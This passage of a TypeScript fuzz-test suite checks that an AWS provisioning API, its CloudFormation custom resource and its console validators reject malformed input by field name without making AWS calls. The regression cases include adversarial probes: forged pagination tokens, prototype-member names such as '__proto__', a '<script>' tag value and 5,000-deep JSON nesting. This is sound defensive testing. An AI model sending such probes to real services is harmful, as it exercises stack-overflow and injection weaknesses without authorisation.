      badIssuer.map((v) => ({ body: JSON.stringify({ oidcIssuerUrl: v }), field: 'oidcIssuerUrl' })),
      fc.constant({ body: JSON.stringify({}), field: 'oidcIssuerUrl' }),
      fc.tuple(fc.string({ minLength: 1, maxLength: 10 }).filter((k) => k !== 'oidcIssuerUrl'), fc.jsonValue({ maxDepth: 1 })).map(([k, v]) => ({
        body: JSON.stringify({ oidcIssuerUrl: 'https://oidc.eks.us-west-2.amazonaws.com/id/ABC', [k]: v }),
        field: k,
      })),
      fc.jsonValue({ maxDepth: 2 }).filter((v) => v === null || typeof v !== 'object' || Array.isArray(v)).map((v) => ({ body: JSON.stringify(v), field: '(request)' })),
    );
    const input = fc.oneof(
      badId.map((id) => ({ routeKey: 'GET /provisionings/{id}', route: getRoute as unknown, id, query: undefined as Record<string, string> | undefined, body: undefined as string | undefined, fields: ['provisioningId'] })),
      fc.tuple(badId, fc.option(fc.constantFrom('true', 'false'), { nil: undefined })).map(([id, force]) => ({ routeKey: 'DELETE /provisionings/{id}', route: deleteRoute as unknown, id, query: force === undefined ? undefined : { force }, body: undefined, fields: ['provisioningId'] })),
      fc.tuple(fc.oneof(goodId, badId), badForce).map(([id, force]) => ({ routeKey: 'DELETE /provisionings/{id}', route: deleteRoute as unknown, id, query: { force }, body: undefined, fields: ['force'] })),
      fc.tuple(badId, fc.constant(JSON.stringify({ oidcIssuerUrl: 'https://oidc.eks.us-west-2.amazonaws.com/id/ABC' }))).map(([id, body]) => ({ routeKey: 'POST /provisionings/{id}/oidc', route: oidcRoute as unknown, id, query: undefined, body, fields: ['provisioningId'] })),
      fc.tuple(fc.oneof(goodId, badId), oidcBody).map(([id, b]) => ({ routeKey: 'POST /provisionings/{id}/oidc', route: oidcRoute as unknown, id, query: undefined, body: b.body, fields: [b.field] })),
    );
    await fc.assert(
      fc.asyncProperty(input, async (i) => {
        const res = await noAwsCall(`API ${i.routeKey}`, () => call(i.route, event(i.routeKey, { id: i.id, query: i.query, body: i.body, headers: jsonHeaders() })));
        expectProblem(res, i.fields, 400);
      }),
      { seed: SEED + 3, numRuns: runs(1200) },
    );
  });

  it('GET /provisionings: a bad status, limit or nextToken is a 400 naming it, before the registry is read', async () => {
    const STATUSES = ['PROVISIONING', 'SUCCEEDED', 'FAILED', 'ROLLED_BACK', 'ROLLBACK_INCOMPLETE', 'UPDATING', 'UPDATE_FAILED', 'TEARING_DOWN', 'TORN_DOWN', 'TEARDOWN_FAILED'];
    const status = anyText.filter((s) => s !== '' && !STATUSES.includes(s));
    const limit = fc.oneof(anyText, fc.integer().map(String), fc.double().map(String)).filter((s) => s !== '' && !(Number.isInteger(Number(s)) && Number(s) >= 1 && Number(s) <= 100));
    const b64 = (v: unknown) => Buffer.from(JSON.stringify(v)).toString('base64url');
    const nextToken = fc.oneof(
      anyText.filter((s) => s !== ''),
      fc.jsonValue({ maxDepth: 3 }).map(b64),
      // forged tokens: the right envelope around a key that is not the registry's
      fc.dictionary(fc.string({ minLength: 1, maxLength: 12 }), fc.jsonValue({ maxDepth: 2 }), { maxKeys: 3 }).map((k) => b64({ s: null, k })),
      fc.constantFrom(b64({ s: null, k: { provisioningId: { N: '1' } } }), b64({ s: null, k: { provisioningId: { S: 'p-1' }, extra: { S: 'x' } } }), b64({ s: null, k: {} }), b64({ s: 'SUCCEEDED', k: { provisioningId: { S: 'p-1' } } })),
    );
    const query = fc.oneof(
      status.map((s) => ({ q: { status: s } as Record<string, string>, fields: ['status'] })),
      limit.map((l) => ({ q: { limit: l } as Record<string, string>, fields: ['limit'] })),
      nextToken.map((t) => ({ q: { nextToken: t } as Record<string, string>, fields: ['nextToken'] })),
    );
    await fc.assert(
      fc.asyncProperty(query, async ({ q, fields }) => {
        const res = await noAwsCall('API GET /provisionings (query)', () => call(listRoute, event('GET /provisionings', { query: q, headers: {} })));
        expectProblem(res, fields, 400);
      }),
      { seed: SEED + 4, numRuns: runs(500) },
    );
  });

  it('POST /vpc-checks: a bad VPC check request (V12) is a 400 naming the field', async () => {
    const good = { vpcId: 'vpc-0123456789abcdef0', region: 'us-west-2', targetAccount: TARGET };
    const input = fc.oneof(
      anyText.filter((s) => !/^vpc-[0-9a-f]{8,17}$/.test(s)).map((v) => ({ body: { ...good, vpcId: v }, fields: ['vpcId'] })),
      anyText.filter((s) => !SUPPORTED_REGIONS.includes(s)).map((v) => ({ body: { ...good, region: v }, fields: ['region'] })),
      fc.constantFrom('vpcId', 'region').map((k) => ({ body: Object.fromEntries(Object.entries(good).filter(([key]) => key !== k)), fields: [k] })),
      fc.constantFrom('roleArn', 'externalId').map((k) => ({ body: { ...good, targetAccount: Object.fromEntries(Object.entries(TARGET).filter(([key]) => key !== k)) }, fields: [`targetAccount.${k}`] })),
      fc.tuple(fc.string({ minLength: 1, maxLength: 10 }).filter((k) => !['roleArn', 'externalId'].includes(k)), fc.jsonValue({ maxDepth: 1 })).map(([k, v]) => ({ body: { ...good, targetAccount: { ...TARGET, [k]: v } }, fields: [`targetAccount.${k}`] })),
      anyText.filter((s) => !GOOD['targetAccount.externalId'](s)).map((v) => ({ body: { ...good, targetAccount: { ...TARGET, externalId: v } }, fields: ['targetAccount.externalId'] })),
      fc.jsonValue({ maxDepth: 2 }).filter((v) => v === null || typeof v !== 'object' || Array.isArray(v)).map((v) => ({ body: v, fields: ['(request)'] })),
    );
    await fc.assert(
      fc.asyncProperty(input, async ({ body, fields }) => {
        const res = await noAwsCall('API POST /vpc-checks', () => call(vpcCheckRoute, event('POST /vpc-checks', { body: JSON.stringify(body) })));
        expectProblem(res, fields, 400);
      }),
      { seed: SEED + 5, numRuns: runs(500) },
    );
  });

  /** CloudFormation sends every scalar property as a string. */
  const cfnStyle = (value: unknown): unknown =>
    Array.isArray(value)
      ? value.map(cfnStyle)
      : value && typeof value === 'object'
        ? Object.fromEntries(Object.entries(value).map(([k, v]) => [k, cfnStyle(v)]))
        : typeof value === 'boolean' || typeof value === 'number'
          ? String(value)
          : value;
  const cfnEvent = (type: 'Create' | 'Update' | 'Delete', properties: Record<string, unknown>, extra: Record<string, unknown> = {}) =>
    ({
      RequestType: type,
      ServiceToken: 'arn:aws:lambda:us-west-2:123456789012:function:provider',
      ResponseURL: responseUrl,
      StackId: STACK,
      RequestId: 'r-fuzz',
      LogicalResourceId: 'Byoc',
      ResourceType: 'Custom::ByocProvisioning',
      ResourceProperties: { ServiceToken: 'arn:aws:lambda:us-west-2:123456789012:function:provider', ...properties },
      ...extra,
    }) as CloudFormationCustomResourceEvent;
  const { provisioningId: _id, ...cfnBase } = BASE;

  it('custom resource: Create and Update with broken properties answer FAILED naming the property; Delete of what they made answers SUCCESS; nothing starts', async () => {
    const cfnMutant = mutants({ cfn: true }).map((m) => {
      // The stack names the provisioning: drop BASE's ID, unless the mutation is about it (then it is refused by name).
      const { provisioningId, ...rest } = m.request;
      return { ...m, request: (m.fields.includes('provisioningId') ? { ...rest, provisioningId } : rest) as Record<string, unknown> };
    });
    const serviceTimeout = fc.option(fc.oneof(fc.integer({ min: -10, max: 10_000 }).map(String), anyText), { nil: undefined });
    await fc.assert(
      fc.asyncProperty(cfnMutant, fc.constantFrom('Create', 'Update', 'Delete'), serviceTimeout, fc.constantFrom(CREATE_FAILED_MARKER, 'Byoc-AbCdEf123', 'arbitrary'), async (m, type, timeout, deleted) => {
        const properties = { ...(cfnStyle(m.request) as Record<string, unknown>), ...(timeout === undefined ? {} : { ServiceTimeout: timeout }) };
        answers.length = 0;
        const physical = type === 'Update' ? 'cfn-0123456789abcdef01234567' : type === 'Delete' ? deleted : undefined;
        const e = cfnEvent(type as 'Create', properties, {
          ...(physical ? { PhysicalResourceId: physical } : {}),
          ...(type === 'Update' ? { OldResourceProperties: { ServiceToken: 'x', ...(cfnStyle(cfnBase) as object) } } : {}),
        });
        await noAwsCall(`custom resource ${type} (${m.kind})`, () => cfnProvider(e as never, lambdaContext(60_000)));
        if (answers.length !== 1) fail(`custom resource ${type}: ${answers.length} answers`, answers);
        const [answer] = answers;
        if (type === 'Delete') {
          // A Create with these properties started nothing: the rollback's Delete must succeed, or the stack sticks.
          if (answer.Status !== 'SUCCESS' || answer.PhysicalResourceId !== physical) fail('custom resource Delete of bad properties did not answer SUCCESS', answer);
          return;
        }
        if (answer.Status !== 'FAILED') fail(`custom resource ${type}: ${answer.Status}`, answer);
        expect(answer.PhysicalResourceId).toBe(type === 'Create' ? CREATE_FAILED_MARKER : physical);
        if (!m.fields.some((f) => answer.Reason.includes(`${f}`))) fail(`custom resource ${type}: the reason does not name ${m.fields.join(' or ')}`, answer.Reason);
      }),
      { seed: SEED + 6, numRuns: runs(1200) },
    );
  });

  it('console start: ValidateInput refuses a broken or arbitrary input with InvalidInputError naming the field, before any AWS call', async () => {
    const input = fc.oneof(
      { weight: 4, arbitrary: mutants().map((m) => ({ request: m.request as unknown, fields: m.fields, executionName: 'console-1' })) },
      // a console input without provisioningId takes the execution name: a bad one is refused by that name
      { weight: 1, arbitrary: fc.oneof(anyText.filter((s) => !GOOD.provisioningId(s)), fc.constant('p--update-1x')).map((name) => ({ request: { ...clone(BASE), provisioningId: undefined } as unknown, fields: ['provisioningId'], executionName: name })) },
      { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 4 }).map((v) => ({ request: v, fields: [] as string[], executionName: 'console-1' })) },
      { weight: 1, arbitrary: deepDocument.map((d) => ({ request: JSON.parse(d.text) as unknown, fields: [d.field], executionName: 'console-1' })) },
    );
    await fc.assert(
      fc.asyncProperty(input, async ({ request, fields, executionName }) => {
        const error = await noAwsCall('console ValidateInput', () =>
          (validateInputStep as unknown as (e: unknown, c: unknown) => Promise<unknown>)({ request, executionName }, lambdaContext()).then(
            (out) => fail('ValidateInput accepted bad input', out),
            (e: Error) => e,
          ),
        );
        if (error.name !== 'InvalidInputError') fail(`ValidateInput threw ${error.name}`, error.message);
        expect(error.message.startsWith('ValidateInput: ')).toBe(true);
        const problems = (error as Error & { problems: { field: string }[] }).problems;
        if (fields.length > 0 && !problems.some((p) => fields.some((f) => matches(p.field, f)))) fail(`ValidateInput does not name ${fields.join(' or ')}`, problems);
      }),
      { seed: SEED + 7, numRuns: runs(1300) },
    );
  });

  it('console start: ValidateTeardownInput refuses a broken or arbitrary teardown input with InvalidInputError naming the field', async () => {
    const base = teardownRequest('fuzz-1', { targetAccount: TARGET, force: false });
    const FIELDS_T: [string, Kind | 'bool'][] = [
      ['provisioningId', 'string'],
      ['region', 'string'],
      ['iamRoleName', 'string'],
      ['storageRoleName', 'string'],
      ['crossAccountRoleName', 'string'],
      ['bucketName', 'string'],
      ['force', 'boolean'],
      ['targetAccount', 'object'],
      ['targetAccount.roleArn', 'string'],
      ['targetAccount.externalId', 'string'],
    ];
    const GOOD_T: Record<string, (s: string) => boolean> = {
      provisioningId: (s) => /^[A-Za-z0-9][A-Za-z0-9_-]{0,63}$/.test(s),
      region: (s) => SUPPORTED_REGIONS.includes(s),
      iamRoleName: (s) => /^zilliz-byoc[\w+=,.@-]{0,53}$/.test(s),
      storageRoleName: (s) => /^zilliz-byoc[\w+=,.@-]{0,53}$/.test(s),
      crossAccountRoleName: (s) => /^zilliz-byoc[\w+=,.@-]{0,53}$/.test(s),
      bucketName: GOOD['bucket.name'],
      'targetAccount.roleArn': GOOD['targetAccount.roleArn'],
      'targetAccount.externalId': GOOD['targetAccount.externalId'],
    };
    const input = fc.oneof(
      fc.constantFrom(...FIELDS_T).chain(([path, kind]) => wrongType(kind as Kind).map((v) => ({ path, v }))).map(({ path, v }) => {
        const request = clone(base) as Record<string, unknown>;
        setPath(request, path, v);
        return { request: request as unknown, fields: [path] };
      }),
      fc.constantFrom(...Object.keys(GOOD_T)).chain((path) => anyText.filter((s) => !GOOD_T[path](s)).map((v) => ({ path, v }))).map(({ path, v }) => {
        const request = clone(base) as Record<string, unknown>;
        setPath(request, path, v);
        return { request: request as unknown, fields: [path] };
      }),
      fc.constantFrom('provisioningId', 'region', 'targetAccount.externalId', 'targetAccount.roleArn').map((path) => {
        const request = clone(base) as Record<string, unknown>;
        deletePath(request, path);
        return { request: request as unknown, fields: [path] };
      }),
      fc.tuple(fc.constantFrom('', 'targetAccount'), fc.string({ minLength: 1, maxLength: 12 })).map(([parent, name]) => {
        const request = clone(base) as Record<string, unknown>;
        const node = (parent ? request[parent] : request) as Record<string, unknown>;
        const used = name in node ? `${name}_x` : name;
        Object.defineProperty(node, used, { value: 1, enumerable: true, writable: true, configurable: true });
        return { request: request as unknown, fields: [parent ? `${parent}.${used}` : used] };
      }),
      fc.jsonValue({ maxDepth: 3 }).map((v) => ({ request: v, fields: [] as string[] })),
    );
    await fc.assert(
      fc.asyncProperty(input, async ({ request, fields }) => {
        const error = await noAwsCall('console ValidateTeardownInput', () =>
          (validateTeardownStep as unknown as (e: unknown, c: unknown) => Promise<unknown>)({ request }, lambdaContext()).then(
            (out) => fail('ValidateTeardownInput accepted bad input', out),
            (e: Error) => e,
          ),
        );
        if (error.name !== 'InvalidInputError') fail(`ValidateTeardownInput threw ${error.name}`, error.message);
        const problems = (error as Error & { problems: { field: string }[] }).problems;
        if (fields.length > 0 && !problems.some((p) => fields.some((f) => matches(p.field, f)))) fail(`ValidateTeardownInput does not name ${fields.join(' or ')}`, problems);
      }),
      { seed: SEED + 8, numRuns: runs(700) },
    );
  });

  it('regressions found by the generators stay fixed', async () => {
    const at = (path: string, value: unknown) => {
      const request = clone(BASE);
      setPath(request, path, value);
      return JSON.stringify(request);
    };
    const cases: [string, string, string][] = [
      // a primitive where an object goes used to crash the defaults (TypeError: 500)
      ['network is a number', at('network', 5), 'network'],
      ['ingress CIDRs are a string', at('network.securityGroup.ingressCidrs', '10.0.0.0/8'), 'network.securityGroup.ingressCidrs'],
      ['ingress CIDRs are an object', at('network.securityGroup.ingressCidrs', { a: 1 }), 'network.securityGroup.ingressCidrs'],
      // a 25 KB document nested 5,000 deep overflowed the stack (RangeError: 500)
      ['nested 5,000 deep', `{"projectName":"demo","region":"us-west-2","crossAccountRole":{"externalId":"cid-123"},"network":${'{"a":'.repeat(5000)}1${'}'.repeat(5000)}}`, 'network'],
      // IAM and S3 refuse these characters in tag values: the execution used to start and fail in CreateEksRole
      ['a tag value IAM refuses', at('tags', { team: '<script>' }), 'tags.team'],
      // `provisioningId: null` was taken for a missing ID and a new one made up (the request then started)
      ['provisioningId null', at('provisioningId', null), 'provisioningId'],
      // X1 with a customer role (item 4 of the issue's security list): the external ID is required with the role ARN
      ['role ARN without external ID', at('targetAccount', { roleArn: TARGET.roleArn }), 'targetAccount.externalId'],
    ];
    for (const [name, body, field] of cases) {
      for (const [routeKey, route] of BODY_ROUTES) {
        const res = await noAwsCall('regressions', () => call(route, event(routeKey, { body, headers: jsonHeaders() })));
        const answer = expectProblem(res, [field], 400);
        expect({ name, fields: (answer.errors as { field: string }[]).map((e) => e.field) }).toEqual({ name, fields: expect.arrayContaining([expect.stringMatching(new RegExp(`^${field.replace(/\./g, '\\.')}`))]) });
      }
    }
    // POST /provisionings/{id}/oidc read the registry before looking at its body (an AWS call, then a 404 or 500)
    const oidc = await noAwsCall('regressions', () => call(oidcRoute, event('POST /provisionings/{id}/oidc', { id: 'p-1', body: JSON.stringify({ oidcIssuerUrl: 'http://not-https' }), headers: jsonHeaders() })));
    expectProblem(oidc, ['oidcIssuerUrl'], 400);
    // a forged nextToken with the right envelope was sent to DynamoDB as the start key (a ValidationException: 500)
    const forged = Buffer.from(JSON.stringify({ s: null, k: { provisioningId: { N: '1' } } })).toString('base64url');
    expectProblem(await noAwsCall('regressions', () => call(listRoute, event('GET /provisionings', { query: { nextToken: forged }, headers: {} }))), ['nextToken'], 400);
    // a region named like an Object.prototype member was taken for a supported one (a VPC check then called EC2)
    for (const region of ['constructor', '__proto__', 'toString']) {
      const res = await noAwsCall('regressions', () => call(vpcCheckRoute, event('POST /vpc-checks', { body: JSON.stringify({ vpcId: 'vpc-0123456789abcdef0', region }) })));
      expectProblem(res, ['region'], 400);
      expectProblem(await noAwsCall('regressions', () => call(validateRoute, event('POST /validate', { body: at('region', region) }))), ['region'], 400);
    }
    // a missing external ID in a VPC check's targetAccount was named `externalId`, not by its path
    const check = await noAwsCall('regressions', () => call(vpcCheckRoute, event('POST /vpc-checks', { body: JSON.stringify({ vpcId: 'vpc-0123456789abcdef0', region: 'us-west-2', targetAccount: { roleArn: TARGET.roleArn } }) })));
    expect((expectProblem(check, ['targetAccount.externalId'], 400).errors as { field: string }[]).map((e) => e.field)).toEqual(['targetAccount.externalId']);
    expect(sfnMock().commandCalls(StartExecutionCommand)).toHaveLength(0);
    expect(bugs).toEqual([]);
  });

  it('in all, at least 10,000 generated inputs, no AWS call and no execution started', () => {
    const total = Object.values(counts).reduce((a, b) => a + b, 0);
    expect(total).toBeGreaterThanOrEqual(SCALE >= 1 ? 10_000 : 1);
    expect(awsCallNames()).toEqual([]);
    expect(sfnMock().commandCalls(StartExecutionCommand)).toHaveLength(0);
  });
});

beforeEach(() => {
  bugs = [];
});
